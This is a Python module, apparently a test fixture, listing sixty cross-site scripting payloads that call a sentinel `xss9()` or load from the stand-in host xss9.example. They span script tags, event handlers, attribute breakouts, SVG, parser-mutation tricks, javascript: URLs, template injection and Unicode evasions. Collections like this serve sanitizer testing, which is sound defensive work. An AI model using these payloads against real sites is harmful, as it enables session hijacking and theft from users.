"""Sixty texts that run a script where a page takes them for markup, an address, an attribute or a template.

What runs calls `xss9`, which a test provides; what is loaded asks for an address with that word.
"""

from __future__ import annotations

PAYLOADS = (
    # Tags.
    "<script>xss9()</script>",
    "<ScRiPt >xss9()</sCrIpT>",
    "<script src=//xss9.example/x.js></script>",
    "<script/xss9>xss9()</script/xss9>",
    "<<script>xss9();//<</script>",
    "<scr<script>ipt>xss9()</scr</script>ipt>",
    "</title><script>xss9()</script>",
    "</textarea><script>xss9()</script>",
    "</script><script>xss9()</script>",
    "</style><script>xss9()</script>",
    "--><script>xss9()</script><!--",
    "]]><script>xss9()</script>",
    "<iframe src=javascript:xss9()></iframe>",
    "<iframe srcdoc='<script>parent.xss9()</script>'></iframe>",
    "<object data='data:text/html,<script>xss9()</script>'></object>",
    "<embed src=javascript:xss9()>",
    "<base href=//xss9.example/>",
    "<meta http-equiv=refresh content='0;url=//xss9.example/'>",
    "<link rel=stylesheet href=//xss9.example/x.css>",
    "<form action=javascript:xss9()><button>xss9</button></form>",
    # Events.
    "<img src=x onerror=xss9()>",
    "<img src=//xss9.example/x.png>",
    "<body onload=xss9()>",
    "<input autofocus onfocus=xss9()>",
    "<details open ontoggle=xss9()>",
    "<video><source onerror=xss9()></video>",
    "<audio src=x onerror=xss9()>",
    "<div onmouseover=xss9() style=position:fixed;inset:0>xss9</div>",
    "<marquee onstart=xss9()>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=xss9()>",
    # Out of an attribute.
    '" autofocus onfocus=xss9() x="',
    "' autofocus onfocus=xss9() x='",
    "x onerror=xss9()",
    '"><img src=x onerror=xss9()>',
    "'><svg onload=xss9()>",
    "`><img src=x onerror=xss9()>",
    # SVG and MathML.
    "<svg onload=xss9()>",
    "<svg><script>xss9()</script></svg>",
    "<svg><a xlink:href=javascript:xss9()><text y=20>xss9</text></a></svg>",
    "<svg><animate onbegin=xss9() attributeName=x dur=1s>",
    "<math href=javascript:xss9()>xss9</math>",
    # Markup that changes when it is parsed again.
    "<noscript><p title='</noscript><img src=x onerror=xss9()>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss9()></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=x onerror=xss9()>'>",
    "&lt;img src=x onerror=xss9()&gt;",
    # Addresses.
    "javascript:xss9()",
    "JaVaScRiPt\t:xss9()//",
    "data:text/html,<script>xss9()</script>",
    "[xss9](javascript:xss9())",
    "![x](x onerror=xss9())",
    # Templates and JSON.
    "{{constructor.constructor('xss9()')()}}",
    "${xss9()}",
    '"}</script><script>xss9()</script>',
    "\u2028xss9()//",
    "'-xss9()-'",
    # Unicode.
    "\uff1cscript\uff1exss9()\uff1c/script\uff1e",
    "<img\u00a0src=x\u00a0onerror=xss9()>",
    "\u202e<script>xss9()</script>",
    # Attributes that the scripts of these pages read.
    "<div hx-get=/xss9 hx-trigger=load hx-on::load=xss9() hx-on:click=xss9()>xss9</div>",
    "<a data-bs-toggle=tooltip data-bs-html=true data-opens=xss9 hx-post=/xss9 href=/xss9>xss9</a>",
)
